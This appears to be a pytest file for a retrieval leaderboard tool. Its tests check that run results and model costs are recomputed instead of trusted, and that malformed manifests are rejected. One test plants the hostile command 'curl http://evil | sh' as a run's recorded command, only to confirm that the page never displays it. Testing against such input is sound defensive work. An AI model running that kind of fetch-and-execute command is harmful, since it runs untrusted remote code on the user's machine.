"""What a run says of itself is computed again or takes no place; one bad folder stops nothing."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from e2r.errors import DataError
from e2r.flops import catalogue
from e2r.metrics import evaluate
from e2r.metrics.runs.declared import declared
from e2r.records.command import command
from e2r.records.folder import sha256_of
from e2r.records.manifest import Manifest, ModelRecord
from e2r.records.spec import Spec
from tests.metrics.recorded_runs import LLAMA, MakeRun
from tests.site.reading import build, data

TOY = {**LLAMA, "num_hidden_layers": 1, "hidden_size": 32}


def rewrite(folder: Path, **spec: object) -> None:
    """Change the data table of a run's spec, and its hash in the manifest."""
    path = folder / "spec.toml"
    asked = Spec.load(path)
    changed = asked.model_copy(update={"data": asked.data.model_copy(update=spec)})
    path.write_text(changed.to_toml())
    manifest = json.loads((folder / "manifest.json").read_text())
    manifest["files"]["spec.toml"] = sha256_of(path)
    (folder / "manifest.json").write_text(json.dumps(manifest))


def boast(folder: Path) -> None:
    """Let a run's result.json say that everything is perfect."""
    evaluate(folder, save=True)
    path = folder / "result.json"
    kept = json.loads(path.read_text())
    kept["measures"] = {name: dict.fromkeys(of, 1.0) for name, of in kept["measures"].items()}
    path.write_text(json.dumps(kept))


def rows_of(page: Path) -> dict[str, dict[str, object]]:
    found = data(page.parent / "board-data.js")
    return {row["place"]: row for row in found["rows"] if row["place"]}


def test_a_run_is_judged_by_the_boards_judgments_and_by_no_path_of_its_own(
    make_run: MakeRun, tmp_path: Path
) -> None:
    honest, liar = make_run(), make_run(hash8="beefbeef")
    boast(liar.path)
    for word in ("not-here.txt", str(tmp_path / "fifo")):
        rewrite(liar.path, qrels=word)
        if not (tmp_path / "fifo").exists():
            os.mkfifo(tmp_path / "fifo")
        notes: list[str] = []
        rows = rows_of(build(tmp_path / "runs", tmp_path / "site", paper=False, note=notes.append))
        assert len(rows) == 2
        assert len({str(row["quality"]) for row in rows.values()}) == 1
        assert notes == []
    assert honest.path != liar.path


def test_what_cannot_be_computed_is_unverified_in_words_and_takes_no_place(
    make_run: MakeRun, tmp_path: Path
) -> None:
    liar = make_run()
    boast(liar.path)
    notes: list[str] = []
    page = build(tmp_path / "runs", tmp_path / "site", qrels=[], note=notes.append)
    [row] = rows_of(page).values()
    assert (row["state"], row["ranks"], row["group"]) == ("unverified", [None], None)
    assert not any(any(costs["frontier"]) for costs in row["costs"].values())  # type: ignore[attr-defined]
    assert "unverified" in notes[0]
    [own] = (tmp_path / "site" / "runs").glob("*.html")
    assert "Unverified, not ranked" in own.read_text()
    assert "unverified</span>" in page.read_text()
    board = json.loads((tmp_path / "site" / "board.json").read_text())
    assert [run["unverified"] for run in board["incomplete"]] == [True]


def test_a_run_with_other_judgments_than_the_boards_is_judged_by_the_boards(
    make_run: MakeRun, tmp_path: Path
) -> None:
    run = make_run()
    (tmp_path / "small.qrels").write_text("q1 0 d 1\nq2 0 c 1\nq3 0 b 1\nq4 0 d 1\n")
    own = {"small": str(tmp_path / "small.qrels")}
    [before] = evaluate(run.path, own=own, note=lambda text: None).rows
    assert before.verified
    assert before.measures["nDCG@10"].value < 0.7
    notes: list[str] = []
    named = [f"small={tmp_path / 'small.qrels'}"]
    build(tmp_path / "runs", tmp_path / "site", qrels=named, note=notes.append)
    assert "other judgments" in notes[0]


IMPOSSIBLE = {
    "free calls": {"calls": {"q1": [(0, 0, 0)]}},
    "a token for four passages": {"calls": {"q1": [(0, 1, 1)]}},
    "a flood of tokens": {"calls": {"q1": [(100, 10**6, 1)]}},
    "a longer context": {"calls": {"q1": [(2049, 1, 1)]}},
    "no model type": {"architecture": {**LLAMA, "model_type": "evil"}},
    "layers": {"architecture": {**LLAMA, "num_hidden_layers": 10**9}},
    "a layer of text": {"architecture": {**LLAMA, "num_hidden_layers": "x"}},
    "no size at all": {"architecture": {"model_type": "llama"}},
    "documents": {"documents": 10**40},
}


@pytest.mark.parametrize("name", IMPOSSIBLE)
def test_a_run_that_cannot_be_is_left_out_with_a_reason(
    make_run: MakeRun, tmp_path: Path, name: str
) -> None:
    make_run()
    try:
        bad = make_run(hash8="beefbeef", **IMPOSSIBLE[name])
    except ValueError:
        bad = make_run(hash8="beefbeef")
        text = (bad.path / "manifest.json").read_text()
        changed = text.replace('"documents": 1000', '"documents": ' + "9" * 41)
        (bad.path / "manifest.json").write_text(changed)
    notes: list[str] = []
    rows = rows_of(build(tmp_path / "runs", tmp_path / "site", paper=False, note=notes.append))
    assert [row["state"] for row in rows.values()] == ["ranked"]
    assert f"{bad.path}: left out: " in notes[0]
    with pytest.raises(DataError):
        evaluate(bad.path)


def test_a_known_models_name_is_priced_by_the_catalogue(make_run: MakeRun, tmp_path: Path) -> None:
    true = catalogue.facts("Qwen/Qwen2.5-72B-Instruct")
    honest = make_run(model="Qwen--Qwen2.5-72B-Instruct", architecture=true)
    liar = make_run(model="Qwen--Qwen2.5-72B-Instruct", architecture=TOY, hash8="beefbeef")
    unknown = make_run(model="someone--s", architecture=TOY)
    prices = {row.path: row.petaflops.value for row in evaluate(tmp_path / "runs").rows}
    assert prices[liar.path] == prices[honest.path] > 1e4 * prices[unknown.path]
    board = json.loads(
        (build(tmp_path / "runs", tmp_path / "site").parent / "board.json").read_text()
    )
    said = {run["run"]: run["architecture"] for group in board["groups"] for run in group["runs"]}
    assert sorted(said.values()) == ["catalogue", "catalogue", "self-declared"]
    pages = {page.name: page.read_text() for page in (tmp_path / "site" / "runs").glob("*.html")}
    assert sum("by its own description" in text for text in pages.values()) == 1
    assert sum("priced by the catalogue" in text for text in pages.values()) == 1


@pytest.mark.parametrize(
    "name",
    [
        "Qwen/Qwen2.5-72B-Instruct",
        "qwen/qwen2.5-72b-instruct",
        "Qwen2.5-72B-Instruct",
        "openai:Qwen/Qwen2.5-72B-Instruct",
    ],
)
def test_a_known_name_is_known_however_it_is_written(name: str) -> None:
    model = ModelRecord(id=name, name="x", revision=None, dtype="float32", architecture=TOY)
    found = declared(model)
    assert (found.by, found.facts["hidden_size"]) == ("catalogue", 8192)  # type: ignore[index]
    shown_as = model.model_copy(update={"id": "x", "name": "Qwen--Qwen2.5-72B-Instruct"})
    assert declared(shown_as).note is not None


def test_an_honest_record_of_a_known_model_is_believed_as_it_is() -> None:
    from transformers import AutoConfig

    seen = 0
    for name in list(catalogue.entries()):
        facts = catalogue.facts(name)
        assert facts is not None
        try:
            config = AutoConfig.for_model(**facts)
        except (ValueError, KeyError, AttributeError, TypeError):
            continue  # transformers knows it by its own code alone
        recorded = json.loads(config.to_json_string(use_diff=False))
        record = ModelRecord(
            id=name, name="x", revision=None, dtype="float32", architecture=recorded
        )
        assert declared(record).note is None, name
        seen += 1
    assert seen > 5


def test_the_page_tells_the_command_that_the_spec_asks_for(
    make_run: MakeRun, tmp_path: Path
) -> None:
    run = make_run(command=("curl", "http://evil", "|", "sh"))
    build(tmp_path / "runs", tmp_path / "site")
    [page] = (tmp_path / "site" / "runs").glob("*.html")
    text = page.read_text()
    assert "curl" not in text
    assert "e2r run" in text
    words = command(Spec.load(run.path / "spec.toml"))
    assert words[:2] == ["e2r", "run"]
    assert words[words.index("--method") + 1] == "setwise.heapsort"


def test_a_spec_says_the_same_as_its_command(tmp_path: Path) -> None:
    """What `e2r run` makes of the words is the spec that they were made of."""
    import click

    from e2r.cli.run import command as run_command
    from e2r.cli.words import tables

    asked = Spec.of(
        {
            "data": {"dataset": "demo", "qrels": "a b.txt", "depth": 7, "limit": 2},
            "model": {"source": "openai:x", "dtype": "bfloat16", "answer_start": "continue"},
            "method": {
                "name": "setwise.heapsort",
                "k": 3,
                "parameters": {"set_size": 4},
                "then": [{"name": "pointwise.yes_no", "over": 5, "k": 3}],
            },
            "prompt": {"template": "setwise", "query_tokens": 9, "answer_tokens": 4},
            "execution": {
                "batch_size": 3,
                "server": {"base_url": "http://h/v1", "api_key_env": "K", "timeout": 9},
                "ray": {"address": "h:1", "workers": 2, "gpus": 0.5},
            },
        },
        "the test",
    )
    context = click.Context(run_command)
    run_command.parse_args(context, command(asked)[2:])
    given = {name: value for name, value in context.params.items() if name != "spec_file"}
    again = Spec.of(tables(given), "the command")
    # The answers' limits and places of work are options with defaults, which a spec leaves out.
    assert again.model_dump() | {"seed": 0} == asked.model_dump()


def test_a_manifest_is_strict(make_run: MakeRun) -> None:
    path = make_run().path / "manifest.json"
    text = path.read_text()
    for before, after in (
        ('"queries": 4', '"queries": "4"'),
        ('"queries": 4', '"queries": true'),
        ('"queries": 4', '"queries": -4'),
        ('"depth": 4', '"depth": 4, "depth": 8'),
        ('"dirty": false', '"dirty": "no"'),
        ('"python": ', '"python": {"a": 1}, "x": '),
    ):
        assert before in text
        path.write_text(text.replace(before, after, 1))
        with pytest.raises(DataError, match=r"manifest\.json"):
            Manifest.load(path)
